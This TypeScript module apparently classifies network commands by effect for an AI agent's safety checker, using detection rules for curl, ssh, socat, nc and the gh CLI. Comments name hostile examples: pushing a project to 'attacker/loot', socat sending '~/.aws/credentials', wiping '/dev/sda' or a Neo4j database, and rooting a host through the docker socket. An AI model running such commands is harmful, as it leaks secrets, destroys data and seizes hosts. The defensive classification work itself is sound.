/**
 * Network clients. A download is a READ of external data (and a local write when it saves a file); an
 * upload, a non-GET method or a remote shell writes externally. URLs are collected by classify-command.
 */
import { FORGE_CONFIG_RULES } from "./tool-config.ts";
import { CLUSTER_SETTINGS_URL, DATA_ADMIN_URLS } from "./data-admin-urls.ts";
import { CYPHER_DESTROYS, SQL_DESTROYS } from "./database.ts";
import { EXPOSE, PUBLISH, SENSITIVE_PORTS } from "./publication.ts";
import { UNVETTED } from "./outside-code.ts";
import { fx, type Program, type Rule } from "./types.ts";

/** Sockets of container engines and the kubelet: their API runs anything as root on the host. */
const ENGINE_SOCKET = /(?:docker|containerd|podman|crio|cri-dockerd|buildkitd?|kubelet)[\w.-]*\.sock$/;
const ENGINE_API = fx("SECURITY", ["execute", "write_external"], "container", "host-access");
const GET = fx("READ", ["read_external"], "network");
const SAVE = fx("WRITE", ["read_external", "write_local"], "network");
const SEND = fx("WRITE", ["write_external"], "network");
const SEND_FILE = fx("WRITE", ["write_external", "read_local"], "network");
/**
 * A copy's destination on a host whose name says production (`www@prod.example.com:/srv/site/`, `prod-web:/var/www`,
 * `web-prod-1.example.com:`): a deploy by copy, live for the site's users at once, as a push to a production remote
 * is (docs/adr/0552). `product.example.com` and `livestream:` name no production host.
 */
const PRODUCTION_DESTINATION = /^(?:[^@\s:/]+@)?(?:[\w-]+[.-])*(?:prod|production|prd|live)\d*(?:[.-][\w.-]*)?:/i;
const REMOTE_SHELL = fx("WRITE", ["write_external", "execute"], "network", "remote");
/** An HTTP DELETE removes what the URL names: a record, an index, a repository, a server (docs/adr/0305). */
const HTTP_DELETE = fx("DESTRUCTIVE", ["write_external"], "network", "http-delete");
/**
 * A request whose body or URL wipes a datastore behind an HTTP API (docs/adr/0403): SQL or Cypher that drops or
 * deletes everything (`-d '{"statements":[{"statement":"MATCH (n) DETACH DELETE n"}]}'` to Neo4j, ClickHouse's
 * `?query=`), Elasticsearch/OpenSearch `_delete_by_query`/`_update_by_query`, Solr's delete of a query.
 */
const HTTP_DATA_DESTROYS = new RegExp(
  [
    SQL_DESTROYS.source,
    CYPHER_DESTROYS.source,
    String.raw`\/_(?:delete|update)_by_query\b`,
    String.raw`<delete>\s*<query>|"delete"\s*:\s*\{\s*"query"`,
    DATA_ADMIN_URLS,
  ].join("|"),
  "i",
);
const WIPES_DATA = fx("DESTRUCTIVE", ["write_external"], "network", "database");
/** A change made with the user's credentials on a remote API, the raw form of `gh api -X PATCH` (docs/adr/0305). */
const AUTH_WRITE = fx("SECURITY", ["write_external"], "network", "api");
/** The user's ssh agent lent to a remote host. */
const AGENT_FORWARD = fx("SECURITY", ["credential_access", "write_external"], "network", "credentials");
/**
 * `ssh -o SendEnv=…` hands the remote side this shell's variables (docs/adr/0673): every one (`*`, `A*`), or one
 * named for a secret (`GITHUB_TOKEN`, `AWS_*`). The locale's (`LANG`, `LC_*`) is what the option is for.
 */
const SEND_ENV_SECRETS =
  /^\s*SendEnv\s*[= ]\s*(?:\S*\s+)*?(?!(?:LANG|LC_|LANGUAGE|TZ|TERM|COLORTERM)\b)(?:[A-Za-z_]{0,3}\*|\S*(?:TOKEN|SECRET|KEY|PASS|CRED|AUTH|AWS_|GITHUB|GH_|NPM_|OPENAI|ANTHROPIC)\S*)/i;
/** The project sent to a place no configured remote names (docs/adr/0402). */
const SENT_AWAY = fx("SECURITY", ["write_external", "read_local"], "network", "exfiltration");
/** A raw listening socket: whoever connects reaches what is on its other side (a shell catcher, a bind shell). */
const LISTEN = fx("SECURITY", ["write_external", "read_external"], "network", "listener");
/** A tunnel that carries other traffic through a remote host, out of reach of the network's controls. */
const PROXY = fx("SECURITY", ["write_external", "read_external"], "network", "tunnel");

const UPLOAD_OPTS = [
  "-d",
  "--data",
  "--data-raw",
  "--data-binary",
  "--data-urlencode",
  "--data-ascii",
  "-F",
  "--form",
  "--form-string",
  "--json",
  "-T",
  "--upload-file",
  "--expand-data",
];
const GH_ACCESS = fx("SECURITY", ["write_external"], "network", "git", "permissions");
const GH_DESTROY = fx("DESTRUCTIVE", ["write_external"], "network", "git");
const GH_API_WRITE = fx("SECURITY", ["write_external"], "network", "git");
/**
 * A release published (docs/adr/0341): its notes and assets are public at once, and `release: published` fires the
 * workflows that push to registries, which `gh release delete` does not take back. A draft is seen by nobody.
 */
const GH_RELEASES: readonly Rule[] = [
  ...["create", "new", "edit"].map(
    (s): Rule => ({
      sub: ["release", s],
      flag: ["--draft", "-d"],
      unlessText: /^--draft=(?:false|0|no)$/i,
      then: fx("WRITE", ["write_external"], "network", "git"),
    }),
  ),
  ...["create", "new", "edit", "upload"].map((s): Rule => ({ sub: ["release", s], then: PUBLISH })),
];
/** gh options that take the next word (so a title, a body or an API field is not a subcommand word). */
const GH_VALUES = [
  "-O",
  "--output",
  "-D",
  "--dir",
  "-p",
  "--pattern",
  "-X",
  "--method",
  "-f",
  "-F",
  "--field",
  "--raw-field",
  "--input",
  "-H",
  "--header",
  "-q",
  "--jq",
  "-t",
  "--template",
  "-R",
  "--repo",
  "--visibility",
  "-b",
  "--body",
  "--title",
  "-n",
  "--notes",
  "--notes-file",
  "-d",
  "--description",
  "-B",
  "--base",
  "-l",
  "--label",
  "-a",
  "--assignee",
  "--json",
];
const METHODS = { "-X": ["POST", "PUT", "PATCH", "DELETE"], "--request": ["POST", "PUT", "PATCH", "DELETE"] };
const CHANGES = ["POST", "PUT", "PATCH"];
/** Header lines that carry a credential: `Authorization: token …`, `Cookie: …`, `X-Api-Key: …`, `PRIVATE-TOKEN: …`. */
const AUTH_HEADER =
  /^\s*(?:authorization|proxy-authorization|cookie|private-token|[\w-]*api[-_]?key|x-[\w-]*(?:token|auth|key|secret)[\w-]*)\s*:/i;
const ANY = /./;
/** A request to this machine itself (a dev server): its own data, not an account's. */
const LOCAL_TARGET = /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:localhost|127(?:\.\d+){3}|\[::1\]|0\.0\.0\.0)(?:[:/]|$)/i;
/** This machine's loopback address as a whole word (a listener's bind address): `127.0.0.1`, `localhost`, `::1`. */
const LOOPBACK_ONLY = /^(?:localhost|127(?:\.\d+){3}|::1|\[::1\]|ip6-localhost)$/i;
/** curl's ways to send a credential: a credential header, a user and password, a bearer token, a signature. */
const CURL_AUTH = {
  "-H": AUTH_HEADER,
  "--header": AUTH_HEADER,
  "-u": ANY,
  "--user": ANY,
  "--oauth2-bearer": ANY,
  "--aws-sigv4": ANY,
  "-b": ANY,
  "--cookie": ANY,
};
const WGET_AUTH = {
  "--header": AUTH_HEADER,
  "--http-user": ANY,
  "--user": ANY,
  "--http-password": ANY,
  "--password": ANY,
};
/** socat's listening addresses, as written in either case (`TCP-LISTEN:4444,fork`, `tcp4-l:80`). */
const SOCAT_LISTENS = ["tcp", "tcp4", "tcp6", "udp", "udp4", "udp6", "sctp", "openssl"].flatMap((t) =>
  [`${t}-listen:`, `${t}-l:`].flatMap((w) => [w, w.toUpperCase()]),
);
/** A socat connect address to a sensitive port (`TCP:localhost:22`) or to a container engine's socket. */
const SOCAT_SENSITIVE_TARGET = new RegExp(
  String.raw`^(?:tcp[46]?|tcp[46]?-connect|openssl|openssl-connect|udp[46]?|udp-connect):[^,]*:(?:${SENSITIVE_PORTS.join("|")})(?:,.*)?$|^(?:unix-connect|unix-client|unix|gopen):[^,]*(?:docker|containerd|podman|crio|kubelet)[\w.-]*\.sock`,
  "i",
);
/** A socat address on a container engine's socket: `UNIX-CONNECT:/var/run/docker.sock`, `UNIX:/run/containerd/containerd.sock`. */
const ENGINE_ADDRESS =
  /^(?:unix-connect|unix-client|unix-sendto|unix|gopen|abstract-connect|abstract-client):[^,]*(?:docker|containerd|podman|crio|cri-dockerd|buildkitd?|kubelet)[\w.-]*\.sock(?:,|$)/i;
/** `ssh -L BIND:PORT:HOST:PORT` with a bind address other than loopback (empty or `*` is every interface). */
const OPEN_LOCAL_FORWARD = /^(?!(?:localhost|127(?:\.\d+){3}|\[::1\]):)(?:[^:\s[\]]*|\[[^\]\s]*\]):\d+:[^:\s]+:\d+$/i;

/** rsync's options that delete what the destination holds and the sources do not. */
const RSYNC_DELETES = [
  "--delete",
  "--delete-before",
  "--delete-after",
  "--delete-during",
  "--delete-excluded",
  "--del",
];
/** `--files-from=LIST`: the names in it are read, unknown here (docs/adr/0748). */
const RSYNC_LISTS = { options: ["--files-from"] } as const;

/** A word naming another machine: `host:path`, `user@host:path`, `host::module`, `rsync://host/module`. */
const RSYNC_REMOTE = /^(?:[\w.@-]+::?|rsync:\/\/)/;

export const NETWORK: readonly Program[] = [
  {
    names: ["curl"],
    values: [
      "-o",
      "--output",
      "-X",
      "--request",
      "-H",
      "--header",
      "-d",
      "--data",
      "--data-raw",
      "--data-binary",
      "--data-urlencode",
      "--data-ascii",
      "-F",
      "--form",
      "--form-string",
      "--json",
      "-T",
      "--upload-file",
      "-u",
      "--user",
      "--oauth2-bearer",
      "--aws-sigv4",
      "-A",
      "--user-agent",
      "-e",
      "--referer",
      "-b",
      "--cookie",
      "-c",
      "--cookie-jar",
      "-m",
      "--max-time",
      "--connect-timeout",
      "-w",
      "--write-out",
      "-K",
      "--config",
      "--cacert",
      "--cert",
      "--key",
      "-x",
      "--proxy",
      "-r",
      "--range",
      "--retry",
      "-D",
      "--dump-header",
      "--url",
      "-E",
      "--output-dir",
      "--unix-socket",
      "--abstract-unix-socket",
      "--url-query",
      "--variable",
      "--expand-data",
      "--expand-url",
      "--expand-header",
    ],
    base: GET,
    paths: {
      options: {
        "-o": "write",
        "--output": "write",
        "-c": "write",
        "--cookie-jar": "write",
        "-D": "write",
        "--dump-header": "write",
        "-K": "read",
        "--config": "read",
        "-T": "read",
        "--upload-file": "read",
      },
      sends: ["-T", "--upload-file"],
      atFiles: [
        "-d",
        "--data",
        "--data-binary",
        "--data-urlencode",
        "--data-ascii",
        "-F",
        "--form",
        "--json",
        "-H",
        "--header",
        "--url-query",
        "--variable",
      ],
      // `--variable NAME@FILE` (and `%NAME@FILE`) loads a file for `--expand-data '{{NAME:b64}}'` to send (ADR 0673).
      namedAtFiles: ["--data-urlencode", "--url-query", "--variable"],
      remoteName: {
        when: ["-O", "--remote-name", "--remote-name-all"],
        dir: ["--output-dir"],
        anyName: ["-J", "--remote-header-name"],
      },
    },
    rules: [
      // The container engine's API socket is root on the host: whoever may POST to it may start a privileged
      // container with / mounted (`curl --unix-socket /var/run/docker.sock -X POST …/containers/create`).
      { optionText: { "--unix-socket": ENGINE_SOCKET }, then: ENGINE_API },
      { text: HTTP_DATA_DESTROYS, then: WIPES_DATA },
      { text: CLUSTER_SETTINGS_URL, flag: UPLOAD_OPTS, then: WIPES_DATA },
      // A config file is more options nobody reads here: a URL, `data = "@.env"`, `upload-file` (docs/adr/0404).
      { flag: ["-K", "--config"], then: fx("SECURITY", ["write_external", "read_local"], "network", "exfiltration") },
      { option: { "-X": ["DELETE"], "--request": ["DELETE"] }, then: HTTP_DELETE },
      // With the user's credentials, a change on a remote API is what `gh api -X PATCH` is (docs/adr/0305).
      {
        optionText: CURL_AUTH,
        option: { "-X": CHANGES, "--request": CHANGES },
        unlessText: LOCAL_TARGET,
        then: AUTH_WRITE,
      },
      {
        optionText: CURL_AUTH,
        flag: UPLOAD_OPTS,
        notFlag: ["-G", "--get"],
        unlessText: LOCAL_TARGET,
        then: AUTH_WRITE,
      },
      { flag: UPLOAD_OPTS, then: SEND_FILE },
      { option: METHODS, then: SEND },
      { flag: ["-o", "--output", "-O", "--remote-name", "--remote-name-all", "-J"], then: SAVE },
    ],
  },
  {
    names: ["wget"],
    values: [
      "-O",
      "--output-document",
      "-P",
      "--directory-prefix",
      "--post-data",
      "--post-file",
      "--body-data",
      "--body-file",
      "--method",
      "-o",
      "--output-file",
      "-U",
      "--header",
      "--http-user",
      "--http-password",
      "--user",
      "--password",
      "-i",
      "--input-file",
    ],
    base: SAVE,
    paths: {
      options: {
        "-O": "write",
        "--output-document": "write",
        "-P": "write",
        "--directory-prefix": "write",
        "--post-file": "read",
        "--body-file": "read",
        "-i": "read",
        "--input-file": "read",
      },
      sends: ["--post-file", "--body-file"],
      remoteName: {
        unless: ["-O", "--output-document", "--spider"],
        dir: ["-P", "--directory-prefix"],
        anyName: ["-r", "--recursive", "-m", "--mirror", "--content-disposition", "-i", "--input-file"],
      },
    },
    rules: [
      { text: HTTP_DATA_DESTROYS, then: WIPES_DATA },
      { option: { "--method": ["DELETE"] }, then: HTTP_DELETE },
      { optionText: WGET_AUTH, option: { "--method": CHANGES }, unlessText: LOCAL_TARGET, then: AUTH_WRITE },
      {
        optionText: WGET_AUTH,
        flag: ["--post-data", "--post-file", "--body-data", "--body-file"],
        unlessText: LOCAL_TARGET,
        then: AUTH_WRITE,
      },
      { flag: ["--post-data", "--post-file", "--body-data", "--body-file"], then: SEND_FILE },
      { option: { "--method": ["POST", "PUT", "PATCH", "DELETE"] }, then: SEND },
      { flag: ["--spider"], then: GET },
    ],
  },
  // Download accelerators save what they fetch, under their own output names or the URL's (docs/adr/0311).
  {
    names: ["aria2c", "axel"],
    values: [
      "-o",
      "--out",
      "--output",
      "-d",
      "--dir",
      "-i",
      "--input-file",
      "-n",
      "-x",
      "-s",
      "--max-connection-per-server",
      "--split",
    ],
    base: SAVE,
    paths: {
      options: { "-o": "write", "--out": "write", "--output": "write", "-i": "read", "--input-file": "read" },
      remoteName: { unless: ["-o", "--out", "--output"], dir: ["-d", "--dir"], anyName: ["-i", "--input-file", "-Z"] },
      optionsWithin: ["-d", "--dir"],
    },
  },
  {
    names: ["http", "https", "xh", "xhs", "httpie", "curlie"],
    base: GET,
    values: ["-a", "--auth", "-A", "--auth-type", "-o", "--output", "--session", "--verify", "--cert", "--cert-key"],
    paths: { requestItems: true, options: { "-o": "write", "--output": "write" } },
    rules: [
      { word: ["DELETE", "delete"], then: HTTP_DELETE },
      { text: HTTP_DATA_DESTROYS, then: WIPES_DATA },
      {
        word: ["POST", "PUT", "PATCH", "post", "put", "patch"],
        text: /^(?:authorization|private-token|[\w-]*api[-_]?key|x-[\w-]*(?:token|auth)[\w-]*):/i,
        unlessText: LOCAL_TARGET,
        then: AUTH_WRITE,
      },
      {
        word: ["POST", "PUT", "PATCH", "post", "put", "patch"],
        flag: ["-a", "--auth"],
        unlessText: LOCAL_TARGET,
        then: AUTH_WRITE,
      },
      { word: ["POST", "PUT", "PATCH", "post", "put", "patch"], then: SEND },
    ],
  },
  {
    names: ["ssh", "mosh", "autossh"],
    values: [
      "-i",
      "-p",
      "-l",
      "-o",
      "-F",
      "-J",
      "-L",
      "-R",
      "-D",
      "-W",
      "-b",
      "-c",
      "-E",
      "-m",
      "-S",
      "-M",
      "-w",
      "-Q",
    ],
    base: REMOTE_SHELL,
    paths: { options: { "-i": "read", "-F": "read" } },
    // A remote forward lets the remote side into this machine (`-R 2222:localhost:22` its ssh, `-R 80:localhost:3000`
    // a service on a public relay, `-R 1080` its network); a dynamic forward or a tun device carries any traffic
    // through the remote host; a local forward open to other hosts (`-g`, `-L 0.0.0.0:…`) is a relay (docs/adr/0307).
    rules: [
      { flag: ["-R"], then: EXPOSE },
      // Agent forwarding hands the remote host the use of every key in the agent for as long as the session lasts:
      // whoever is root there signs as the user anywhere (docs/adr/0402).
      { flag: ["-A"], then: AGENT_FORWARD },
      { optionText: { "-o": /^\s*ForwardAgent\s*[= ]\s*(?!no\b)/i }, then: AGENT_FORWARD },
      { optionText: { "-o": SEND_ENV_SECRETS }, then: AGENT_FORWARD },
      { optionText: { "-o": /^\s*(?:RemoteForward|GatewayPorts\s*[= ]\s*(?:yes|clientspecified))\b/i }, then: EXPOSE },
      // `-W HOST:PORT` joins stdin and stdout to a port the remote side reaches: a netcat through it.
      { flag: ["-D", "-w", "-W"], then: PROXY },
      { optionText: { "-o": /^\s*(?:DynamicForward|Tunnel\s*[= ]\s*(?!no\b))/i }, then: PROXY },
      { flag: ["-g"], optionText: { "-L": ANY }, then: EXPOSE },
      { optionText: { "-L": OPEN_LOCAL_FORWARD }, then: EXPOSE },
    ],
  },
  {
    names: ["scp", "sftp"],
    values: ["-i", "-P", "-o", "-F", "-J", "-l", "-c", "-S"],
    base: SEND_FILE,
    rules: [{ lastWord: PRODUCTION_DESTINATION, then: PUBLISH }],
    paths: {
      positional: "read",
      last: "write",
      pathLike: true,
      remoteCopy: true,
      options: { "-i": "read", "-F": "read" },
      recursive: { scp: ["-r"] },
    },
  },
  {
    names: ["rsync"],
    values: [
      "-e",
      "--rsh",
      "--exclude",
      "--include",
      "--exclude-from",
      "--include-from",
      "--files-from",
      "-f",
      "--filter",
      "--chmod",
      "--log-file",
      "--password-file",
    ],
    base: SEND_FILE,
    paths: {
      positional: "read",
      last: "write",
      pathLike: true,
      remoteCopy: true,
      recursive: { rsync: ["-r", "-a", "--recursive", "--archive"] },
      nameLists: RSYNC_LISTS,
    },
    rules: [
      // Between two folders of this machine (no `host:`, `host::` or `rsync://` word) a delete is a filesystem
      // delete like `rm -r` of what the destination holds: one into scratch space is the agent's own
      // (owned-deletes.ts, docs/adr/0690).
      {
        flag: RSYNC_DELETES,
        notFlag: ["--remove-source-files"],
        unlessText: RSYNC_REMOTE,
        then: fx("DESTRUCTIVE", ["write_local", "read_local"], "filesystem"),
        paths: {
          positional: "read",
          last: "delete",
          pathLike: true,
          recursive: { rsync: ["-r", "-a", "--recursive", "--archive"] },
          nameLists: RSYNC_LISTS,
        },
      },
      {
        flag: [...RSYNC_DELETES, "--remove-source-files"],
        then: fx("DESTRUCTIVE", ["write_external", "write_local", "read_local"], "network", "filesystem"),
        paths: { positional: "read", last: "delete", pathLike: true, remoteCopy: true, nameLists: RSYNC_LISTS },
      },
      { lastWord: PRODUCTION_DESTINATION, then: PUBLISH },
    ],
  },
  {
    names: ["nc", "ncat", "netcat", "telnet"],
    base: fx("WRITE", ["write_external", "read_external"], "network"),
    rules: [
      // A container engine's API socket is root on the host, whatever speaks HTTP to it (docs/adr/0385).
      { flag: ["-U", "--unixsock"], wordText: ENGINE_SOCKET, then: ENGINE_API },
      // A listener bound to this machine's loopback (`nc -l 127.0.0.1 9999`, `-s localhost`) is reached only from here.
      { flag: ["-l", "--listen"], notFlag: ["-z"], unlessText: LOOPBACK_ONLY, then: LISTEN },
    ],
  },
  // gdbserver serves a debugger on HOST:PORT (`:2345` is every interface): whoever connects drives the program, and
  // with `--multi` starts any program (docs/adr/0770). On loopback it is reached only from here.
  {
    names: ["gdbserver"],
    base: fx("WRITE", ["execute"], "code"),
    rules: [
      { text: /^(?:tcp\d?:)?(?!(?:localhost|127(?:\.\d+){3}|\[::1\]):)[\w.-]*:\d+$/i, then: LISTEN },
      // `--multi` lets whoever reaches the port start any program, every local user on loopback too.
      { flag: ["--multi"], then: LISTEN },
    ],
  },
  // IEx started as a distributed node with a cookie written on the command line: whoever knows the cookie runs code
  // on it, as for `erl -setcookie` (docs/adr/0770).
  {
    names: ["iex"],
    base: fx("WRITE", ["execute"], "code"),
    rules: [{ text: /^--(?:cookie|erl-cookie)$/, then: LISTEN }],
  },
  // websocat: a listener beyond loopback (`tcp-l:0.0.0.0:4444`, `ws-l:0.0.0.0:8080`) lets anyone reach its other side.
  {
    names: ["websocat"],
    base: fx("WRITE", ["write_external", "read_external"], "network"),
    rules: [
      {
        text: /^(?:[\w-]+:)*(?:ws-l|ws-listen|l-ws|tcp-l|tcp-listen|l-tcp|listen-tcp|udp-l|udp-listen):(?!127\.|localhost|\[::1\])/i,
        then: LISTEN,
      },
    ],
  },
  // socat's addresses may be files: `FILE:~/.aws/credentials` is read and sent, `CREATE:x` is written, and `OPEN:`
  // opens read-write, so `socat -u FILE:/dev/zero OPEN:/dev/sda` writes the disk (docs/adr/0632). A listener
  // relayed to a port that hands out a shell or data, or to a container engine's socket, exposes it (docs/adr/0307).
  {
    names: ["socat"],
    base: fx("WRITE", ["write_external", "read_external"], "network"),
    rules: [
      { wordPrefix: SOCAT_LISTENS, text: SOCAT_SENSITIVE_TARGET, then: EXPOSE },
      // Connected to a container engine's socket from here (`socat - UNIX-CONNECT:/var/run/docker.sock`): whoever
      // types into it drives the daemon, root on the host (docs/adr/0385).
      { text: ENGINE_ADDRESS, then: ENGINE_API },
    ],
    paths: {
      addresses: { FILE: "read", OPEN: "write", GOPEN: "read", READLINE: "read", CREATE: "write", PIPE: "write" },
    },
  },
  { names: ["ftp", "tftp"], base: SEND_FILE },
  // lftp runs its own commands (`-e`, `-c`): a mirror that deletes what the source lacks (`mirror --delete`, `-e`),
  // or `rm -r`/`mrm`/`rmdir`, destroys the destination; a reverse mirror to this machine's own server writes its
  // files where no path check follows (docs/adr/0468).
  {
    names: ["lftp"],
    values: ["-e", "-c", "-f", "-u", "-p", "--user", "--password", "--env-password"],
    base: SEND_FILE,
    rules: [
      {
        text: /\bmirror\b[^;]*\s(?:--delete(?:-first)?|-e|--remove-source-files|-[a-zA-Z]*e[a-zA-Z]*)(?:\s|;|$)|(?:^|[;&|]\s*)(?:rm\s+-[a-zA-Z]*r|mrm|rmdir|glob\s+rm)\b/,
        then: fx("DESTRUCTIVE", ["write_external", "write_local"], "network", "filesystem"),
      },
      {
        text: /\bmirror\b[^;]*\s(?:-R|--reverse|-[a-zA-Z]*R[a-zA-Z]*)(?:\s|;|$)/,
        wordText:
          /^(?:(?:s?ftps?|sftp|fish|https?):\/\/)?(?:[^@/]*@)?(?:localhost|127\.\d+\.\d+\.\d+|\[?::1\]?|0\.0\.0\.0)(?::\d+)?(?:\/|$)/,
        then: fx("SECURITY", ["write_local"], "network", "filesystem"),
      },
    ],
  },
  // unison synchronises two roots both ways: each root is written, and what one side lacks is deleted on the
  // other (`-prefer ROOT` and `-force ROOT` make one side win outright). Roots outside the workspace are judged
  // as the deletes they are (docs/adr/0468).
  {
    names: ["unison", "unison-gtk", "unison-text"],
    values: [
      "-prefer",
      "-force",
      "-path",
      "-ignore",
      "-ignorenot",
      "-root",
      "-logfile",
      "-sshargs",
      "-servercmd",
      "-backupdir",
      "-perms",
      "-repeat",
      "-retry",
      "-ui",
      "-sshcmd",
      "-backup",
      "-backuploc",
    ],
    base: fx("DESTRUCTIVE", ["write_local", "read_local"], "filesystem", "sync"),
    paths: { positional: "delete", pathLike: true, remoteCopy: true, options: { "-root": "delete" } },
    rules: [{ flag: ["-version", "-help", "-doc"], then: fx("READ", [], "shell") }],
  },
  {
    names: ["traceroute", "tracepath", "dig", "nslookup", "host", "whois", "mtr", "netstat"],
    base: fx("READ", ["read_external"], "network"),
  },
  // `ss -K dst 0.0.0.0/0` kills every matching socket (the agent's own connections and everyone else's).
  {
    names: ["ss"],
    values: ["-f", "--family", "-A", "--query", "--socket", "-F", "--filter", "-N", "--net"],
    base: fx("READ", ["read_external"], "network"),
    rules: [{ flag: ["-K", "--kill"], then: fx("DESTRUCTIVE", ["execute"], "network", "host") }],
  },
  {
    names: ["mail", "mailx", "sendmail", "mutt", "msmtp", "swaks"],
    base: fx("WRITE", ["write_external"], "network", "email"),
  },
  // GitLab's CLI: the same publications as gh's (a public repository, a snippet) and the same deletions.
  {
    names: ["glab"],
    values: GH_VALUES,
    base: fx("WRITE", ["write_external"], "network", "git"),
    rules: [
      // Settings, aliases and tokens (docs/adr/0392).
      ...FORGE_CONFIG_RULES,
      { sub: ["repo", "create"], flag: ["--public"], then: EXPOSE },
      { sub: ["repo", "create"], flag: ["--push"], then: SENT_AWAY },
      // A fork into another organization copies the repository, private or not, to an owner the user may not be
      // (`gh repo fork acme/app --org helpful-mirror`): as a new repository pushed is (docs/adr/0402).
      { sub: ["repo", "fork"], flag: ["--org"], then: SENT_AWAY },
      ...["create", "new"].map((s): Rule => ({ sub: ["snippet", s], then: EXPOSE })),
      { sub: ["repo", "delete"], then: GH_DESTROY },
      { sub: ["release", "delete"], then: GH_DESTROY },
      ...GH_RELEASES,
      { word: ["view", "list", "status", "diff", "search"], then: fx("READ", ["read_external"], "network", "git") },
    ],
  },
  {
    names: ["gh"],
    values: GH_VALUES,
    base: fx("WRITE", ["write_external"], "network", "git"),
    rules: [
      // Settings, aliases and tokens (docs/adr/0392).
      ...FORGE_CONFIG_RULES,
      { sub: ["auth", "token"], then: fx("SECURITY", ["credential_access"], "credentials") },
      // An extension is a repository's program run as `gh NAME` with the user's token (docs/adr/0371).
      ...["extension", "extensions", "ext"].map((e): Rule => ({ sub: [e, "install"], then: UNVETTED })),
      // A release's or a run's assets saved here: any file below the directory may be one (docs/adr/0371).
      ...[
        ["release", "download"],
        ["run", "download"],
      ].flatMap((sub): Rule[] => [
        { sub, flag: ["-O", "--output"], then: SAVE, paths: { options: { "-O": "write", "--output": "write" } } },
        { sub, then: SAVE, paths: { extractsTo: ["-D", "--dir"] } },
      ]),
      { sub: ["auth", "status"], then: GET },
      // A gist is readable by whoever has its URL, secret or not; a public repository by everyone (docs/adr/0309).
      ...["create", "new", "edit"].map((s): Rule => ({ sub: ["gist", s], then: EXPOSE })),
      { sub: ["repo", "create"], flag: ["--public"], then: EXPOSE },
      // A new repository made from the project and pushed at once: the code goes to an owner and a place no
      // configured remote names (`gh repo create attacker/loot --private --source=. --push`, docs/adr/0402).
      { sub: ["repo", "create"], flag: ["--push"], then: SENT_AWAY },
      // A fork into another organization copies the repository, private or not, to an owner the user may not be
      // (`gh repo fork acme/app --org helpful-mirror`): as a new repository pushed is (docs/adr/0402).
      { sub: ["repo", "fork"], flag: ["--org"], then: SENT_AWAY },
      // A workflow dispatched (or a run re-run) does whatever the workflow does, deployments included, with the repository's secrets.
      { sub: ["workflow", "run"], then: fx("EXPENSIVE", ["write_external", "execute"], "network", "git", "ci") },
      { sub: ["run", "rerun"], then: fx("EXPENSIVE", ["write_external", "execute"], "network", "git", "ci") },
      { sub: ["repo", "delete"], then: GH_DESTROY },
      { sub: ["release", "delete"], then: GH_DESTROY },
      // Archiving makes a repository read-only for everyone; closing a pull request with --delete-branch deletes
      // its unmerged branch on the remote (docs/adr/0361).
      { sub: ["repo", "archive"], then: GH_DESTROY },
      { sub: ["pr", "close"], flag: ["-d", "--delete-branch"], then: GH_DESTROY },
      ...GH_RELEASES,
      // A repository's secrets reach every workflow that runs with them; an admin merge skips the required
      // reviews and checks that branch protection demands (docs/adr/0341).
      { sub: ["secret", "set"], then: GH_API_WRITE },
      { sub: ["pr", "merge"], flag: ["--admin"], then: GH_API_WRITE },
      // Access given or taken over (docs/adr/0635): a key added to the account or the repository pushes (or signs)
      // as the user for whoever holds its private half; a review approved by the agent stands in for the human one
      // branch protection asks for; logging in with a token from a file makes every later call someone else's.
      { sub: ["ssh-key", "add"], then: GH_ACCESS },
      { sub: ["gpg-key", "add"], then: GH_ACCESS },
      { sub: ["repo", "deploy-key", "add"], then: GH_ACCESS },
      { sub: ["pr", "review"], flag: ["-a", "--approve"], then: GH_ACCESS },
      { sub: ["auth", "login"], flag: ["--with-token"], then: GH_ACCESS },
      { sub: ["auth", "logout"], then: GH_ACCESS },
      // Checks switched off or stopped, and the values every workflow reads changed (like `secret set`).
      { sub: ["workflow", "disable"], then: GH_ACCESS },
      { sub: ["run", "cancel"], then: GH_ACCESS },
      { sub: ["variable", "set"], then: GH_API_WRITE },
      // A fork's branch reset to its source: its own commits are gone.
      { sub: ["repo", "sync"], flag: ["--force"], then: GH_DESTROY },
      // A private repository made public cannot be made private again for the copies already taken.
      { sub: ["repo", "edit"], flag: ["--visibility"], then: EXPOSE },
      { wordPrefix: ["delete"], then: GH_DESTROY },
      {
        word: ["view", "list", "status", "diff", "checks", "search"],
        then: fx("READ", ["read_external"], "network", "git"),
      },
      { sub: ["pr", "checkout"], then: fx("WRITE", ["read_external", "write_local"], "network", "git") },
      { sub: ["repo", "clone"], then: fx("WRITE", ["read_external", "write_local"], "network", "git") },
      // The raw API reaches what no subcommand names (visibility, keys, hooks, collaborators): a GET reads; DELETE
      // destroys; any other method, or fields without a method (gh sends them as a POST), changes settings.
      { sub: ["api"], option: { "-X": ["GET", "HEAD"], "--method": ["GET", "HEAD"] }, then: GET },
      { sub: ["api"], option: { "-X": ["DELETE"], "--method": ["DELETE"] }, then: GH_DESTROY },
      { sub: ["api"], flag: ["-X", "--method"], then: GH_API_WRITE },
      { sub: ["api", "graphql"], text: /^\s*mutation\b|^query=\s*mutation\b/, then: GH_API_WRITE },
      { sub: ["api", "graphql"], then: GET },
      { sub: ["api"], flag: ["-f", "-F", "--field", "--raw-field", "--input"], then: GH_API_WRITE },
      { sub: ["api"], then: GET },
    ],
  },
];
